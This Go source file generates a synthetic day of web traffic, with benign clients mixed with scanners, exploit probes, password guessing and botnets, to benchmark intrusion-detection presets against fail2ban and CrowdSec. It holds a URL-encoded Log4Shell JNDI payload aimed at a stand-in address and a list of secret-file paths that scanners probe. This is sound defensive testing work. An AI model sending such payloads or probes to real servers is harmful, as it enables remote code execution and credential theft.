// Package detection measures what Stint's presets catch, and what they cost benign
// clients, beside fail2ban and CrowdSec: on a synthetic day of which the truth is known,
// and on a real log. It writes docs/DETECTION_QUALITY.md.
package detection

import (
	"cmp"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"slices"
	"strings"
	"time"
)

// Request is one request of the site's day.
type Request struct {
	At           time.Time
	Address      netip.Addr
	Method, Path string
	Status       int // of the answer, if it is served
	Agent        string
	Account      string // at which a login is tried, "" for other requests
}

// Kind is what a client is. The day begins with the kinds in this order.
type Kind struct {
	Name     string
	IsAttack bool
	About    string
}

const crawlerLabel = "crawler on old links"

// Kinds are those of the synthetic day.
var Kinds = []Kind{
	{"visitors", false, "150 people read some pages with their files"},
	{"office NAT", false, "3 addresses of 60 people each, who log in each morning, some with a wrong password first"},
	{"carrier NAT", false, "2 addresses of 300 people each"},
	{crawlerLabel, false, "2 addresses of a search engine that is verified by DNS, a request in 20 s, of which an eighth is for pages that are gone"},
	{"feed readers", false, "40 clients ask for a feed four times an hour, half of them for one that is gone"},
	{"forgetful users", false, "40 people enter three to eight wrong passwords, and then the right one"},
	{"busy API client", false, "one address, two requests a second for an hour"},
	{"scanner, 10/s", true, "10 addresses, 300 paths each, of which one in thirty is that of a known hole"},
	{"scanner, one in 6 s", true, "10 addresses, as before"},
	{"scanner, one in 4 minutes", true, "10 addresses, as before"},
	{"scanner, one in 20 minutes", true, "10 addresses, as before"},
	{"guessed names, one in 6 s", true, "10 addresses ask for names that no list knows"},
	{"guessed names, one in 20 minutes", true, "10 addresses, as before"},
	{"one to three exploits", true, "100 addresses that come once, one in eight with an exploit in the query of an ordinary page"},
	{"guessing, one a second", true, "10 addresses try passwords of one account each"},
	{"guessing, one in 3 minutes", true, "10 addresses, as before"},
	{"spray from one /24", true, "40 addresses of one network, eight accounts each"},
	{"stuffing from one address", true, "3 addresses, one account after the other, one in 20 s"},
	{"botnet at one account", true, "300 addresses, two passwords each for the same account"},
	{"botnet, three tries each", true, "500 addresses, three accounts each"},
	{"subscribers of one /24", false, "200 addresses of one network, who read some pages and log in, one in twelve with a wrong password first"},
	{"scanner, shared by one /24", true, "40 addresses of one network ask for 600 paths, one after the other, one in 2 s"},
}

// Traffic is a day of requests, in the order of their times.
type Traffic struct {
	Requests []Request
	Label    map[netip.Addr]string // the name of each client's kind
	Attack   map[netip.Addr]time.Time
}

// day is the first instant of the synthetic day.
var day = time.Date(2026, 3, 2, 0, 0, 0, 0, time.UTC)

// generator makes the day.
type generator struct {
	*rand.Rand
	t       *Traffic
	clients int
	share   float64 // of the clients and tries of each kind
	kind    Kind
}

// Generate makes the synthetic day, which is the same for the same seed. share, above 0
// and at most 1, is the part of the clients of each kind that comes.
func Generate(seed uint64, share float64) *Traffic {
	g := &generator{Rand: rand.New(rand.NewPCG(seed, 1)), share: share,
		t: &Traffic{Label: map[netip.Addr]string{}, Attack: map[netip.Addr]time.Time{}}}
	for i, make := range []func(){
		g.visitors, g.offices, g.carriers, g.crawlers, g.feedReaders, g.forgetful, g.apiClient,
		func() { g.scanners(100*time.Millisecond, true) }, func() { g.scanners(6*time.Second, true) },
		func() { g.scanners(4*time.Minute, true) }, func() { g.scanners(20*time.Minute, true) },
		func() { g.scanners(6*time.Second, false) }, func() { g.scanners(20*time.Minute, false) },
		g.exploits, func() { g.guessers(time.Second, 300) }, func() { g.guessers(3*time.Minute, 300) },
		g.spray, g.stuffing, g.botnet, g.wideBotnet, g.subscribers, g.sharedScan,
	} {
		g.kind = Kinds[i]
		make()
	}
	slices.SortStableFunc(g.t.Requests, func(a, b Request) int {
		return cmp.Or(a.At.Compare(b.At), a.Address.Compare(b.Address))
	})
	return g.t
}

// client names the next client of the kind, in a network of its own as far as there are.
func (g *generator) client() netip.Addr {
	g.clients++
	n := g.clients
	return g.named(netip.AddrFrom4([4]byte{198, 18, byte(n % 251), byte(1 + n/251*16 + n%13)}))
}

func (g *generator) named(a netip.Addr) netip.Addr {
	g.t.Label[a] = g.kind.Name
	return a
}

// count returns how many of n come.
func (g *generator) count(n int) int { return max(1, int(float64(n)*g.share)) }

const (
	browser = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"
	scanner = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"
)

func (g *generator) add(at time.Time, a netip.Addr, method, path string, status int, agent string) {
	g.t.Requests = append(g.t.Requests, Request{At: at, Address: a, Method: method, Path: path, Status: status, Agent: agent})
	if first, known := g.t.Attack[a]; g.kind.IsAttack && (!known || at.Before(first)) {
		g.t.Attack[a] = at
	}
}

func (g *generator) login(at time.Time, a netip.Addr, account string, works bool, agent string) {
	status := 401
	if works {
		status = 200
	}
	g.add(at, a, "POST", "/login", status, agent)
	g.t.Requests[len(g.t.Requests)-1].Account = account
}

// between returns a random time of the day between two hours.
func (g *generator) between(from, to float64) time.Time {
	return day.Add(time.Duration((from + g.Float64()*(to-from)) * float64(time.Hour)))
}

func (g *generator) upTo(d time.Duration) time.Duration {
	return time.Duration(g.Float64() * float64(d))
}

// reads has a person read pages from an instant on. The first page loads the site's files,
// the others their pictures; one of two hundred links is broken.
func (g *generator) reads(at time.Time, a netip.Addr, pages int) {
	for page := range pages {
		article := g.IntN(300)
		if g.IntN(200) == 0 {
			g.add(at, a, "GET", fmt.Sprintf("/posts/%d/renamed", article), 404, browser)
			at = at.Add(5*time.Second + g.upTo(20*time.Second))
			continue
		}
		g.add(at, a, "GET", fmt.Sprintf("/posts/%d", article), 200, browser)
		files := 2
		if page == 0 {
			files = 12
		}
		for f := range files {
			path, status := fmt.Sprintf("/static/%d.css", f), 200
			if f > 1 || page > 0 {
				path = fmt.Sprintf("/static/photo-%d-%d.jpg", article, f)
			}
			if f == 11 {
				path, status = "/apple-touch-icon.png", 404
			}
			g.add(at.Add(100*time.Millisecond+g.upTo(1200*time.Millisecond)), a, "GET", path, status, browser)
		}
		at = at.Add(10*time.Second + g.upTo(90*time.Second))
	}
}

func (g *generator) visitors() {
	for range g.count(150) {
		g.reads(g.between(6, 23), g.client(), 2+g.IntN(10))
	}
}

func (g *generator) offices() {
	for range 3 {
		a := g.client()
		for person := range g.count(60) {
			at := g.between(8, 9.5)
			account := fmt.Sprintf("%s-%d", a, person)
			if g.IntN(12) == 0 {
				for range 1 + g.IntN(2) {
					g.login(at, a, account, false, browser)
					at = at.Add(8*time.Second + g.upTo(10*time.Second))
				}
			}
			g.login(at, a, account, true, browser)
			for range 4 {
				g.reads(g.between(9, 17), a, 1+g.IntN(5))
			}
		}
	}
}

func (g *generator) carriers() {
	for range 2 {
		a := g.client()
		for range g.count(300) {
			g.reads(g.between(6, 24), a, 2+g.IntN(6))
		}
	}
}

const crawler = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"

func (g *generator) crawlers() {
	for range 2 {
		a := g.client()
		for at := day.Add(g.upTo(time.Minute)); at.Sub(day) < time.Duration(24*g.share*float64(time.Hour)); at = at.Add(20 * time.Second) {
			if g.IntN(8) == 0 {
				g.add(at, a, "GET", fmt.Sprintf("/archive/%d", g.IntN(5000)), 404, crawler)
			} else {
				g.add(at, a, "GET", fmt.Sprintf("/posts/%d", g.IntN(300)), 200, crawler)
			}
		}
	}
}

func (g *generator) feedReaders() {
	for i := range g.count(40) {
		a := g.client()
		path, status := "/feed", 200
		if i%2 == 0 {
			path, status = "/atom", 410
		}
		for at := day.Add(g.upTo(15 * time.Minute)); at.Sub(day) < 24*time.Hour; at = at.Add(15 * time.Minute) {
			g.add(at, a, "GET", path, status, "FeedReader/4.2")
		}
	}
}

func (g *generator) forgetful() {
	for i := range g.count(40) {
		a, at := g.client(), g.between(6, 23)
		g.reads(at, a, 2)
		at = at.Add(3 * time.Minute)
		for range 3 + g.IntN(6) {
			g.login(at, a, fmt.Sprintf("forgetful-%d", i), false, browser)
			at = at.Add(6*time.Second + g.upTo(20*time.Second))
		}
		g.login(at, a, fmt.Sprintf("forgetful-%d", i), true, browser)
		g.reads(at.Add(10*time.Second), a, 4)
	}
}

func (g *generator) apiClient() {
	a := g.client()
	at := day.Add(11 * time.Hour)
	for i := range g.count(7200) {
		g.add(at.Add(time.Duration(i)*500*time.Millisecond), a, "GET", fmt.Sprintf("/api/items/%d", i%900), 200, "inventory/2.3")
	}
}

// holes are paths that scanners' lists have, in the order in which they are mixed in.
var holes = []string{
	"/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/index.php", "/.aws/credentials", "/backup.sql", "/actuator/env", "/cgi-bin/luci", "/boaform/admin/formLogin",
	"/xmlrpc.php",
}

// commonNames are what lists of paths begin with, and is on no list of traps.
var commonNames = []string{"admin", "test", "old", "backup", "dev", "private", "tmp", "data", "config", "upload", "portal", "staging", "db", "secret", "include"}

// scanned returns path number i of a list.
func scanned(i int) string {
	path := fmt.Sprintf("/%s%s", commonNames[i%len(commonNames)], strings.Repeat("-"+commonNames[i/len(commonNames)%len(commonNames)], min(1, i/len(commonNames))))
	if i >= len(commonNames)*len(commonNames) {
		path = fmt.Sprintf("%s-%d", path, i)
	}
	return path
}

// scanners has ten addresses ask for paths that are not there, one in each interval until
// the day ends. Those of a list ask for a known hole each thirty paths.
func (g *generator) scanners(interval time.Duration, list bool) {
	for range g.count(10) {
		a, at := g.client(), g.between(0, 4)
		firstHole := g.IntN(30)
		for i := 0; i < 300 && at.Sub(day) < 24*time.Hour; i++ {
			path := scanned(i)
			switch {
			case !list:
				path = fmt.Sprintf("/x%08x", g.Uint32())
			case i%30 == firstHole:
				path = holes[(i/30+firstHole)%len(holes)]
			}
			g.add(at, a, "GET", path, 404, scanner)
			at = at.Add(interval + g.upTo(interval/10))
		}
	}
}

func (g *generator) exploits() {
	for range g.count(100) {
		a, at := g.client(), g.between(0, 24)
		for range 1 + g.IntN(3) {
			if g.IntN(8) == 0 {
				g.add(at, a, "GET", "/posts/1?q=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.1%2Fa%7D", 200, scanner)
			} else {
				g.add(at, a, "GET", holes[g.IntN(len(holes))], 404, scanner)
			}
			at = at.Add(g.upTo(4 * time.Second))
		}
	}
}

func (g *generator) guessers(interval time.Duration, tries int) {
	for i := range g.count(10) {
		a, at := g.client(), g.between(0, 8)
		for range tries {
			g.login(at, a, fmt.Sprintf("staff-%d-%s", i, interval), false, scanner)
			at = at.Add(interval + g.upTo(interval/10))
		}
	}
}

func (g *generator) spray() {
	for i := range g.count(40) {
		a := g.named(netip.AddrFrom4([4]byte{198, 19, 77, byte(20 + i*3)}))
		for range 8 {
			g.login(g.between(1, 23), a, fmt.Sprintf("sprayed-%d", g.IntN(5000)), false, scanner)
		}
	}
}

func (g *generator) stuffing() {
	for range g.count(3) {
		a, at := g.client(), g.between(0, 12)
		for i := range 1000 {
			g.login(at, a, fmt.Sprintf("stuffed-%s-%d", a, i), i%100 == 99, scanner)
			at = at.Add(20 * time.Second)
		}
	}
}

func (g *generator) botnet() {
	for i := range g.count(300) {
		a := g.named(netip.AddrFrom4([4]byte{198, 19, byte(i % 60), byte(1 + i/60)}))
		for range 2 {
			g.login(g.between(2, 14), a, "director", false, scanner)
		}
	}
}

func (g *generator) wideBotnet() {
	for i := range g.count(500) {
		a := g.named(netip.AddrFrom4([4]byte{198, 19, byte(100 + i%120), byte(1 + i/120)}))
		for range 3 {
			g.login(g.between(0, 24), a, fmt.Sprintf("wide-%d", g.IntN(9000)), false, scanner)
		}
	}
}

func (g *generator) subscribers() {
	for i := range g.count(200) {
		a, at := g.named(netip.AddrFrom4([4]byte{198, 19, 78, byte(10 + i)})), g.between(6, 22)
		g.reads(at, a, 2)
		at = at.Add(3 * time.Minute)
		if g.IntN(12) == 0 {
			for range 1 + g.IntN(2) {
				g.login(at, a, fmt.Sprintf("subscriber-%d", i), false, browser)
				at = at.Add(8*time.Second + g.upTo(10*time.Second))
			}
		}
		g.login(at, a, fmt.Sprintf("subscriber-%d", i), true, browser)
		g.reads(at.Add(10*time.Second), a, 3)
	}
}

func (g *generator) sharedScan() {
	members, at := g.count(40), g.between(2, 6)
	for i := range 15 * members {
		path := scanned(i)
		if i%30 == 0 {
			path = holes[i/30%len(holes)]
		}
		g.add(at, g.named(netip.AddrFrom4([4]byte{198, 19, 79, byte(10 + i%members)})), "GET", path, 404, scanner)
		at = at.Add(2*time.Second + g.upTo(200*time.Millisecond))
	}
}
